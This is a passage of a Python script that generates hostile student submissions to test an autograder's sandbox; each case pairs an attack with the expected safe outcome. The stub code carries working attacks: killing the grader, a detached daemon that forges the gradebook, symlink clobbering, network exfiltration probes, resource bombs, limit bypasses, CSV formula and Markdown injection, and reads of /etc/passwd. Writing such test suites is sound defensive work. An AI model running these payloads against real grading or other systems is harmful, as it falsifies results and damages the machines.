     {"02_logsumexp.ipynb": lse_stub_nb("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n")})

case("parent_sigint_sigterm",
     "Sends SIGINT, SIGTERM, SIGHUP, SIGUSR1 and SIGPIPE to the grader and SIGTERM to its process group.",
     "The grader finishes with every row (it may ignore or cannot be reached); exit 0.",
     {"02_logsumexp.ipynb": lse_stub_nb("import os, signal, time\npp = os.getppid()\nfor s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGPIPE):\n    try: os.kill(pp, s)\n    except Exception: pass\n    time.sleep(0.2)\ntry: os.killpg(os.getpgid(pp), signal.SIGTERM)\nexcept Exception: pass\n")})

case("killpg_own_group",
     "os.killpg(0, SIGKILL): kills the sandbox's whole process group, which may include the grader "
     "and the sibling sandboxes.",
     "Every row still present; honest neighbours unchanged.",
     {"02_logsumexp.ipynb": lse_stub_nb("import os, signal\nos.killpg(0, signal.SIGKILL)\n")})

case("detached_gradebook_rewrite",
     "Double fork + setsid: a daemon waits until the grader has exited, then rewrites grades.csv "
     "and grades.json (own row full marks, honest rows 0) and the honest feedback files.",
     Z + "; grades.csv/json intact after exit (checked again 20 s later); no process left running.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + r'''
import os, sys, time, csv, json
OUT = out_dir(); GP = os.getppid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        for fd in range(0, 256):
            try: os.close(fd)
            except OSError: pass
        try:
            t0 = time.time()
            while os.path.exists(f"/proc/{GP}") and time.time() - t0 < 600: time.sleep(0.2)
            time.sleep(1)
            p = os.path.join(OUT, "grades.csv")
            rows = list(csv.reader(open(p)))
            for r in rows[1:]:
                if "detached_gradebook_rewrite" in r[0]:
                    r[1:-3] = ["3", "2", "3", "3", "3", "3", "2", "3", "2", "1", "1"]; r[-3] = "26"; r[-1] = ""
                else:
                    r[1:-2] = ["0"] * (len(r) - 3)
            csv.writer(open(p, "w", newline="")).writerows(rows)
            jp = os.path.join(OUT, "grades.json"); data = json.load(open(jp))
            for rec in data:
                if "detached" in rec["submission"]: rec["total"] = 26.0
                else: rec["total"] = 0.0
            json.dump(data, open(jp, "w"))
            for f in os.listdir(os.path.join(OUT, "feedback")):
                open(os.path.join(OUT, "feedback", f), "a").write("\n\n**Total: 0 / 26 points** (rewritten)\n")
            time.sleep(120)
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(-1, 0) if False else None
time.sleep(0.5)
''')}, extra={"recheck_after": 8})

case("gradebook_direct_write",
     "Reads --out from /proc/<ppid>/cmdline and, during grading, writes the gradebook itself: "
     "grades.csv/json with its own full-marks row, and a feedback file for honest_partial saying 0/26.",
     Z + "; gradebook reflects the real grading (the grader's final write wins, files not forged).",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + r'''
OUT = out_dir(); os.makedirs(os.path.join(OUT, "feedback"), exist_ok=True)
open(os.path.join(OUT, "grades.csv"), "w").write("submission,total\ngradebook_direct_write,26\n")
open(os.path.join(OUT, "grades.json"), "w").write('[{"submission": "gradebook_direct_write", "total": 26.0}]')
open(os.path.join(OUT, "feedback", "honest_partial.md"), "w").write("# Feedback for honest_partial\n\n**Total: 0 / 26 points**\n")
open(os.path.join(OUT, "feedback", "ga_extra_forged.md"), "w").write("forged")
''')}, extra={"no_extra_feedback": "ga_extra_forged.md"})

case("symlink_plant_outdir",
     "Plants symlinks in the output folder before the grader writes it: feedback/honest_partial.md, "
     "feedback/symlink_plant_outdir.md and grades.json point to a victim file outside the output folder "
     "(think ~/.bashrc), so the grader's own writes clobber it.",
     Z + "; the victim file outside the output folder is unchanged.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + r'''
OUT = out_dir(); os.makedirs(os.path.join(OUT, "feedback"), exist_ok=True)
victim = os.path.join(os.path.dirname(OUT), "victim.txt")
for name in ("feedback/honest_partial.md", "feedback/symlink_plant_outdir.md", "feedback/honest_empty.md", "grades.json"):
    p = os.path.join(OUT, name)
    try: os.unlink(p)
    except OSError: pass
    try: os.symlink(victim, p)
    except OSError: pass
''')}, extra={"victim": "victim.txt"})

case("write_outside",
     "Writes files outside its working folder: /tmp/ga_pwned_write_outside, $HOME/ga_pwned_write_outside, "
     "/dev/shm/ga_pwned_write_outside, /var/tmp/..., next to the run folder, and plants a "
     "`sitecustomize.py`-like file in the folder of the honest submissions.",
     Z + "; none of those files exist after the run.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + r'''
N = "ga_pwned_write_outside"
for d in ("/tmp", os.path.expanduser("~"), "/dev/shm", "/var/tmp", os.path.dirname(os.path.dirname(out_dir()))):
    try: open(os.path.join(d, N), "w").write("pwned")
    except Exception: pass
for p in submission_paths():
    if os.path.basename(p.rstrip("/")) != "write_outside":
        try: open(os.path.join(p, N + ".py"), "w").write("pwned")
        except Exception: pass
''')}, extra={"outside_files": ["/tmp/ga_pwned_write_outside", "~/ga_pwned_write_outside",
                                "/dev/shm/ga_pwned_write_outside", "/var/tmp/ga_pwned_write_outside",
                                "RUN/ga_pwned_write_outside", "RUN/subs/honest_partial/ga_pwned_write_outside.py"]})

case("network_access",
     "Tries to reach the network from a graded cell (DNS 1.1.1.1:53, example.com:80, pypi.org:443) "
     "and reports success through an exception message (exfiltration channel).",
     Z + "; no outbound connection (errors must not say NETWORK_OK).",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import socket
ok = []
for host, port in (("1.1.1.1", 53), ("example.com", 80), ("pypi.org", 443)):
    try:
        s = socket.create_connection((host, port), timeout=3); s.close(); ok.append(f"{host}:{port}")
    except Exception as e:
        pass
if ok:
    raise RuntimeError("NETWORK_OK " + " ".join(ok))
''')}, extra={"errors_must_not_contain": "NETWORK_OK"})

# ---------------------------------------------------------------- 6. limits and crashes
case("infinite_loop_ignore_signals",
     "Ignores SIGALRM/SIGTERM/SIGINT/SIGXCPU/SIGHUP, raises every soft resource limit to its hard "
     "limit, disables signal.alarm/setitimer, freezes time.time/monotonic/perf_counter, then loops "
     "forever (catching every BaseException) in the function under check.",
     Z + "; row recorded with a time-out; run finishes; nothing left running.",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import signal, resource, threading
for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGHUP, signal.SIGUSR1, signal.SIGVTALRM, signal.SIGPROF):
    try: signal.signal(s, signal.SIG_IGN)
    except Exception: pass
signal.alarm(0)
for n in dir(resource):
    if n.startswith("RLIMIT_"):
        try:
            soft, hard = resource.getrlimit(getattr(resource, n)); resource.setrlimit(getattr(resource, n), (hard, hard))
        except Exception: pass
signal.signal = lambda *a, **k: None; signal.alarm = lambda *a, **k: 0; signal.setitimer = lambda *a, **k: (0, 0)
import time
_sleep = time.sleep
time.time = lambda: 1e9; time.monotonic = lambda: 1e9; time.perf_counter = lambda: 1e9
time.time_ns = lambda: 10**18; time.monotonic_ns = lambda: 10**18; time.perf_counter_ns = lambda: 10**18
''', "def logsumexp(a, axis=None):\n    while True:\n        try:\n            while True: pass\n        except BaseException:\n            pass\n")})

case("nondaemon_thread_hang",
     "Starts a non-daemon thread that never ends (the interpreter cannot exit normally after `done`) "
     "and a child process that holds the report pipe open.",
     Z + "; row recorded; run finishes; nothing left running.",
     {"02_logsumexp.ipynb": lse_stub_nb("import threading, time, subprocess\nthreading.Thread(target=lambda: time.sleep(10**6)).start()\nsubprocess.Popen(['sleep', '903'], pass_fds=(4,))\n")})

case("memory_bomb_raise_limit",
     "Raises RLIMIT_AS back to its hard limit (unlimited), then allocates and touches ~3 GB (bounded), "
     "more than the --memory cap (1000 MB in run_all); reports MEMCAP_BYPASSED if it got it.",
     Z + "; row recorded with a memory error; honest neighbours unchanged; machine unaffected.",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import resource, numpy as np
for r in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_RSS):
    try: resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except Exception:
        try: resource.setrlimit(r, (resource.getrlimit(r)[1],) * 2)
        except Exception: pass
blocks = []
for i in range(30):
    b = np.ones(100 * 2**20 // 8); blocks.append(b)
raise RuntimeError(f"MEMCAP_BYPASSED: allocated {len(blocks) * 100} MB")
''')}, extra={"errors_must_not_contain": "MEMCAP_BYPASSED"})

case("disk_bomb",
     "Raises RLIMIT_FSIZE to unlimited, writes 1.5 GB (bounded) into its temporary working folder, "
     "a 300 MB file into /tmp/ga_pwned_disk_bomb (outside) and a 300 MB single file in its folder "
     "(over the 64 MB file-size limit); reports FSIZE_BYPASSED if the limit did not hold.",
     Z + "; row recorded; no temporary folder or /tmp file left behind.",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import resource, os
try: resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except Exception: pass
chunk = b"\0" * (50 * 2**20)
for i in range(30):
    try:
        with open(f"fill_{i}.bin", "wb") as f: f.write(chunk)
    except Exception: break
try:
    with open("/tmp/ga_pwned_disk_bomb", "wb") as f:
        for i in range(6): f.write(chunk)
except Exception: pass
big = 0
try:
    with open("one_big_file.bin", "wb") as f:
        for i in range(6): f.write(chunk); big += 50
except Exception: pass
if big > 64:
    raise RuntimeError(f"FSIZE_BYPASSED: wrote a {big} MB file, the file-size limit was 64 MB")
''')}, extra={"outside_files": ["/tmp/ga_pwned_disk_bomb"], "errors_must_not_contain": "FSIZE_BYPASSED"})

case("fd_exhaustion",
     "Raises RLIMIT_NOFILE to its hard limit and opens pipes until EMFILE (bounded by the limit), "
     "so the sandbox cannot open anything to report or import.",
     Z + "; row recorded.",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import os, resource
try: resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
except Exception: pass
_keep = []
try:
    while len(_keep) < 40000:
        _keep.extend(os.pipe())
except OSError:
    pass
''')})

case("process_bomb_bounded",
     "Spawns 150 `sleep 904` children (bounded), 30 of them in new sessions, plus `nohup sleep 900`, a "
     "`setsid sh -c` grandchild and a double-forked python daemon re-parented to init (a backdoor "
     "left on the grading machine); waits for none of them.",
     Z + "; row recorded; no child left running.",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import subprocess, os
for i in range(150):
    subprocess.Popen(['sleep', '904'], start_new_session=(i % 5 == 0), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["nohup", "sleep", "900"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
subprocess.Popen(["/bin/sh", "-c", "setsid sh -c 'exec sleep 901' &"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        for fd in range(3, 256):
            try: os.close(fd)
            except OSError: pass
        time.sleep(902); os._exit(0)
    os._exit(0)
''')})

case("huge_output_and_errors",
     "Prints a 60 MB line to stdout and raises an exception whose message is 5 MB, with commas, "
     "quotes, newlines and pipes (all of it may land in grades.csv / feedback).",
     Z + "; grades.csv stays small (< 1 MB) and parseable.",
     {"02_logsumexp.ipynb": lse_stub_nb("import sys\nsys.stdout.write('A' * 60_000_000)\nsys.stdout.flush()\nraise ValueError(('x,\"y\"\\n| z |' * 500_000))\n")},
     extra={"csv_max_bytes": 1_000_000})

case("garbage_report",
     "Writes invalid JSON, a JSON array, binary bytes, a result for an unknown exercise, negative "
     "and NaN/huge points into the report pipe, then a 300 MB line without newline (bounded), then "
     "closes it and keeps going.",
     Z + "; row recorded; no crash of the run.",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import os, sys, json
fd = int(sys.argv[-1])
for line in [b"not json", b"[1, 2, 3]", bytes(range(256)), b'{"event": "result"}',
             json.dumps({"event": "result", "exercise": "no_such_ex", "status": "correct", "points": 1e9, "max_points": 1}).encode(),
             json.dumps({"event": "result", "exercise": "bic", "status": "correct", "points": 1e308, "max_points": 1}).encode(),
             b'{"event": "result", "exercise": "aic", "status": "correct", "points": NaN, "max_points": 1}',
             json.dumps({"event": "result", "exercise": "logsumexp", "status": "correct", "points": -5, "max_points": 3}).encode(),
             json.dumps({"event": "result", "exercise": "__proto__", "status": "correct", "points": 3, "max_points": 3}).encode()]:
    os.write(fd, line + b"\n")
chunk = b'{' * (2**20)
for i in range(300):
    os.write(fd, chunk)
os.close(fd)
''')})

case("close_all_fds",
     "os.closerange(0, 1024) in the setup cell (the report pipe, stdout, stderr are gone), "
     "with an honest logsumexp so that there is something to lose.",
     "Row present with a reason (points of logsumexp may be lost, never more than 3).",
     {"02_logsumexp.ipynb": lse_stub_nb("import os\nos.closerange(0, 1024)\n", LSE)}, max_points={"logsumexp": 3})

case("os_exit_in_check",
     "The stub calls os._exit(0) when the checker calls it (no `done` event, exit status 0).",
     Z + "; row present with a reason.",
     {"02_logsumexp.ipynb": lse_stub_nb("", "import os\ndef logsumexp(a, axis=None):\n    os._exit(0)\n")})

case("sys_exit_odd_codes",
     "Several notebooks exit with odd codes: sys.exit(0) in a setup cell, SystemExit(-1), sys.exit(256), "
     "sys.exit('=HYPERLINK(\"http://x\")') and sys.exit(None); functions raise KeyboardInterrupt, "
     "GeneratorExit and SystemExit when called.",
     Z + "; row present; later exercises still graded; no formula in the CSV.",
     {"01_gaussian.ipynb": ch_stub("01", "log_gaussian_pdf", "def log_gaussian_pdf(X, mean, cov):\n    raise KeyboardInterrupt\n", setup="import sys\nsys.exit(0)\n"),
      "02_logsumexp.ipynb": lse_stub_nb("", "def logsumexp(a, axis=None):\n    raise SystemExit(-1)\n"),
      "07_model_selection.ipynb": ch_stub("07", "bic", "def bic(l, p, n):\n    raise GeneratorExit\n\ndef aic(l, p):\n    import sys; sys.exit('=HYPERLINK(\"http://evil\",\"x\")')\n", setup="import sys\ntry:\n    sys.exit(256)\nexcept SystemExit:\n    pass\n")},
     extra={"csv_no_formula": True})

case("segfault",
     "Crashes the interpreter: ctypes.string_at(0) (SIGSEGV) when the checker calls logsumexp, "
     "after deep recursion with a huge recursion limit in log_gaussian_pdf.",
     Z + "; row present with a reason.",
     {"02_logsumexp.ipynb": lse_stub_nb("", "import ctypes\ndef logsumexp(a, axis=None):\n    ctypes.string_at(0)\n"),
      "01_gaussian.ipynb": ch_stub("01", "log_gaussian_pdf", "import sys\nsys.setrecursionlimit(10**7)\ndef log_gaussian_pdf(X, mean, cov, _d=0):\n    return log_gaussian_pdf(X, mean, cov, _d + 1)\n")})

case("stdin_and_shell_magics",
     "Reads from standard input (input(), sys.stdin.read()) in a graded cell; in another notebook, "
     "shell escapes and magics (`!touch ...`, `%system`, get_ipython().system) that run shell "
     "commands if the executor is IPython.",
     Z + "; no hang (stdin is /dev/null or closed); /tmp/ga_pwned_stdin_and_shell_magics does not exist.",
     {"02_logsumexp.ipynb": lse_stub_nb("import sys\ntry:\n    input()\nexcept EOFError:\n    pass\nsys.stdin.read()\n"),
      "07_model_selection.ipynb": ch_stub("07", "bic", STUB_BICAIC, setup="!touch /tmp/ga_pwned_stdin_and_shell_magics\n%system touch /tmp/ga_pwned_stdin_and_shell_magics\ntry:\n    get_ipython().system('touch /tmp/ga_pwned_stdin_and_shell_magics')\nexcept NameError:\n    pass\n")},
     extra={"outside_files": ["/tmp/ga_pwned_stdin_and_shell_magics"]})
# ---------------------------------------------------------------- 7. names, CSV, feedback
def simple_folder():
    return {"02_logsumexp.ipynb": lse_stub_nb("")}

case("csv_formula_names",
     "Submission folders named like spreadsheet formulas: `=cmd|' -c calc'!A0`, `@SUM(1+1)`, "
     "`+1+1`, `-2+3` and a tab-prefixed one (the names land in the first CSV column); the first "
     "one's cells also raise exceptions whose messages are formulas (`=HYPERLINK(...)` after a newline, `=cmd|...`).",
     Z + "; no CSV cell starts with = + - @ (tab/CR) unescaped; every row present.",
     {"=cmd|' -c calc'!A0/02_logsumexp.ipynb": lse_stub_nb("raise ValueError('\\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")')\n"),
      "=cmd|' -c calc'!A0/07_model_selection.ipynb": ch_stub("07", "bic", STUB_BICAIC, setup="raise RuntimeError('=cmd|\\' /C calc\\'!A0')\n"),
      "@SUM(1+1)/02_logsumexp.ipynb": lse_stub_nb(""),
      "+1+1/02_logsumexp.ipynb": lse_stub_nb(""),
      "-2+3/02_logsumexp.ipynb": lse_stub_nb(""),
      "\t=1+1/02_logsumexp.ipynb": lse_stub_nb("")},
     submit=["csv_formula_names/=cmd|' -c calc'!A0", "csv_formula_names/@SUM(1+1)",
             "csv_formula_names/+1+1", "csv_formula_names/-2+3", "csv_formula_names/\t=1+1"],
     extra={"csv_no_formula": True})

case("feedback_markdown_injection",
     "Exception messages with newlines and Markdown that forge lines of the feedback file: a fake "
     "table row `| logsumexp | 3 / 3 | correct |` and `**Total: 26 / 26 points**`, plus HTML/script.",
     Z + "; the feedback file has no forged line starting with `| ` or `**Total` besides the real ones.",
     {"02_logsumexp.ipynb": lse_stub_nb("raise ValueError('x\\n\\n**Total: 26 / 26 points**\\n\\n| `logsumexp` | 3 / 3 | correct |\\n<script>alert(1)</script>')\n")},
     extra={"feedback_single_total": True})

case("name_newline_comma",
     "A submission folder whose name contains a newline, commas and quotes: `evil\\nhonest_partial,0,\"x`.",
     Z + "; the CSV still has one row per submission; feedback file created safely.",
     {'evil\nhonest_partial,0,"x/02_logsumexp.ipynb': lse_stub_nb("")},
     submit=['name_newline_comma/evil\nhonest_partial,0,"x'])

case("name_unicode_spaces",
     "Folder names with spaces, accents, CJK, an RTL override (U+202E), a zero-width joiner and "
     "emoji; names that look like paths or options: `. .`, `..hidden..`, `grades` (feedback/grades.md), "
     "`--out=evil`; a notebook file `02_logsumexp..ipynb`.",
     Z + "; every row present with its own feedback file.",
     {"Zoë 学生 \u202egpj.exe/02_logsumexp.ipynb": lse_stub_nb(""),
      "a\u200db 🎓/02_logsumexp.ipynb": lse_stub_nb(""),
      ". ./02_logsumexp.ipynb": lse_stub_nb(""),
      "..hidden../02_logsumexp.ipynb": lse_stub_nb(""), "grades/02_logsumexp.ipynb": lse_stub_nb(""),
      "--out=evil/02_logsumexp.ipynb": lse_stub_nb(""), "f/02_logsumexp..ipynb": lse_stub_nb("")},
     submit=["name_unicode_spaces/Zoë 学生 \u202egpj.exe", "name_unicode_spaces/a\u200db 🎓",
             "name_unicode_spaces/. .", "name_unicode_spaces/..hidden..", "name_unicode_spaces/grades",
             "name_unicode_spaces/--out=evil", "name_unicode_spaces/f/02_logsumexp..ipynb"])

case("name_very_long",
     "A submission folder with a 255-byte name (the feedback file name `<name>.md` exceeds NAME_MAX) "
     "and a notebook with a 250-byte name.",
     Z + "; rows present, feedback written, no crash.",
     {("L" * 255) + "/02_logsumexp.ipynb": lse_stub_nb(""),
      "x/02_" + ("n" * 240) + ".ipynb": lse_stub_nb("")},
     submit=["name_very_long/" + "L" * 255, "name_very_long/x"])

case("name_collisions",
     "Two students with the same folder name in different directories (`a/student`, `b/student`), one "
     "of them a copy of honest work; plus names that collide after sanitising (`x y`, `x_y`, `x/y`-like "
     "`x∕y`, `X Y`) and a file submission `student.ipynb` next to a folder `student`.",
     "Every submission gets its own row and its own feedback file; the honest copy's points go only "
     "to its own row (b/student may get the 3 points of its honest logsumexp, nobody else).",
     {"a/student/02_logsumexp.ipynb": lse_stub_nb(""),
      "b/student/02_logsumexp.ipynb": lse_stub_nb("", LSE),
      "c/x y/02_logsumexp.ipynb": lse_stub_nb(""),
      "c/x_y/02_logsumexp.ipynb": lse_stub_nb(""),
      "c/x\u2215y/02_logsumexp.ipynb": lse_stub_nb(""),
      "c/X Y/02_logsumexp.ipynb": lse_stub_nb("")},
     submit=["name_collisions/a/student", "name_collisions/b/student", "name_collisions/c/x y",
             "name_collisions/c/x_y", "name_collisions/c/x\u2215y", "name_collisions/c/X Y"],
     max_points={"logsumexp": 3}, extra={"distinct_feedback": True, "points_only_for": "b/student"})

case("symlink_to_neighbour",
     "The submission's notebooks are symlinks to honest_partial's notebooks (plagiarism by link) "
     "and a folder symlink `peer -> ../honest_partial`.",
     Z + " (symlinks leaving the submission must be refused or not followed).",
     {}, symlinks=[("01_gaussian.ipynb", "../honest_partial/01_gaussian.ipynb"),
                   ("02_logsumexp.ipynb", "../honest_partial/02_logsumexp.ipynb"),
                   ("07_model_selection.ipynb", "../honest_partial/07_model_selection.ipynb"),
                   ("peer", "../honest_partial")])

case("symlink_system_and_loop",
     "Notebooks that are symlinks to /etc/passwd and /proc/self/environ, a symlink loop "
     "(`loop -> .`), a dangling link, and 04_m_step.ipynb is a named pipe (FIFO: opening it "
     "blocks forever); the real 02 notebook is a stub.",
     Z + "; row present; no crash, no hang, nothing of /etc or the environment in the feedback.",
     {"02_logsumexp.ipynb": lse_stub_nb("")},
     symlinks=[("01_gaussian.ipynb", "/etc/passwd"), ("07_model_selection.ipynb", "/proc/self/environ"),
               ("loop", "."), ("03_e_step.ipynb", "/nonexistent/dangling.ipynb")],
     fifos=["04_m_step.ipynb"],
     extra={"feedback_must_not_contain": "root:x:0:0"})

# ---------------------------------------------------------------- 8. malformed notebooks
nb3 = {"metadata": {}, "nbformat": 3, "nbformat_minor": 0,
       "worksheets": [{"cells": [{"cell_type": "code", "input": "import numpy as np\n" + LSE, "language": "python",
                                  "metadata": {"tags": ["exercise"]}, "outputs": []}]}]}
case("malformed_notebooks",
     "One student, many broken notebooks: nbformat 3 (worksheets), zero cells, invalid JSON, binary "
     "garbage, a JSON array, JSON `null`, deeply nested lists (100 000 levels), tags as a string "
     "('exercise'), source as a number, a cell without cell_type, metadata null.",
     "Row present with the reasons; nbformat-3 logsumexp may score its 3 points (honest code), "
     "nothing else; the run does not crash.",
     {"02_logsumexp.ipynb": nb3,
      "01_gaussian.ipynb": {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5},
      "03_e_step.ipynb": '{"cells": [{"cell_type": "code", "source": "x = 1',
      "04_m_step.ipynb": bytes(random.Random(4).randrange(256) for _ in range(5000)),
      "05_em.ipynb": "[1, 2, 3]",
      "06_initialisation.ipynb": "null",
      "07_model_selection.ipynb": "[" * 100000 + "]" * 100000,
      "08_sklearn_and_applications.ipynb": {"cells": [
          {"cell_type": "code", "metadata": {"tags": "exercise"}, "source": "raise SystemExit", "outputs": []},
          {"cell_type": "code", "metadata": {"tags": ["setup"]}, "source": 12345, "outputs": []},
          {"metadata": {"tags": ["setup"]}, "source": "x=1"},
          {"cell_type": "code", "metadata": None, "source": "x=1", "outputs": []}],
          "metadata": {}, "nbformat": 4, "nbformat_minor": 5}},
     max_points={"logsumexp": 3})

case("plain_markdown_no_header",
     "A `.md` notebook with no jupytext header, only ```python fences with the honest logsumexp, and a "
     "MyST .md whose code-cell fences are unbalanced and whose YAML header is an alias bomb "
     "(10^6 entries when expanded, bounded).",
     "Row present; at most 3 points for logsumexp (from honest code); no crash, no memory blow-up.",
     {"02_logsumexp.md": "# my logsumexp\n\n```python\nimport numpy as np\n" + LSE + "\n```\n",
      "01_gaussian.md": "---\njupytext:\n  formats: ipynb,md:myst\na: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\nkernelspec:\n  name: python3\n---\n\n```{code-cell} ipython3\n:tags: [setup]\nimport numpy as np\n````\n\n```{code-cell} ipython3\n:tags: [exercise]\n\ndef log_gaussian_pdf(X, mean, cov):\n    return np.zeros(len(X))\n```\n```{code-cell}\n"},
     max_points={"logsumexp": 3})

case("huge_notebook",
     "A 120 MB notebook (one huge markdown cell plus a 5 MB code cell of comments).",
     Z + "; row present; the grader neither hangs nor runs out of memory.",
     {"02_logsumexp.ipynb": (lambda nb: (nb["cells"].insert(0, {"cell_type": "markdown", "id": "huge", "metadata": {}, "source": "A" * 120_000_000}),
                                        add_setup(nb, "#" * 5_000_000 + "\n"), nb)[-1])(lse_stub_nb(""))})

case("no_tags_and_wrong_tags",
     "Honest code (logsumexp) in cells with no tags, with tags `Exercise`, `exercise ` and "
     "`solution-only`, plus a setup cell tagged `setup` twice and also `hint`.",
     "The grader decides consistently: untagged cells do not run, so 0 for logsumexp is acceptable "
     "(documented: only `setup` and `exercise` cells run); row present.",
     {"02_logsumexp.ipynb": (lambda nb: ([c["metadata"].__setitem__("tags", ["Exercise", "exercise ", "solution-only"]) for c in nb["cells"] if "def logsumexp" in "".join(c["source"])], nb)[-1])(lse_stub_nb("", LSE))},
     max_points={"logsumexp": 0})

case("chapter_prefix_confusion",
     "Notebook names that play with the chapter prefix: `2_logsumexp.ipynb`, `002_logsumexp.ipynb`, "
     "`02-logsumexp.ipynb`, `99_extra.ipynb`, `02_logsumexp.ipynb.md`, and two different `02_*` "
     "notebooks (a stub and one with honest code): which one is graded must not depend on luck.",
     "Row present; logsumexp at most 3 (one honest copy exists); no crash.",
     {"2_logsumexp.ipynb": lse_stub_nb("", LSE), "002_logsumexp.ipynb": lse_stub_nb("", LSE),
      "02-logsumexp.ipynb": lse_stub_nb("", LSE), "99_extra.ipynb": lse_stub_nb("import os\n"),
      "02_logsumexp.ipynb.md": "garbage", "02_logsumexp.ipynb": lse_stub_nb(""),
      "02_logsumexp_final.ipynb": lse_stub_nb("", LSE)},
     max_points={"logsumexp": 3})

json.dump(META, open(os.path.join(os.environ["HOSTILE_ROOT"], "cases_meta.json"), "w"), indent=1, ensure_ascii=False)
print(len(META), "cases")
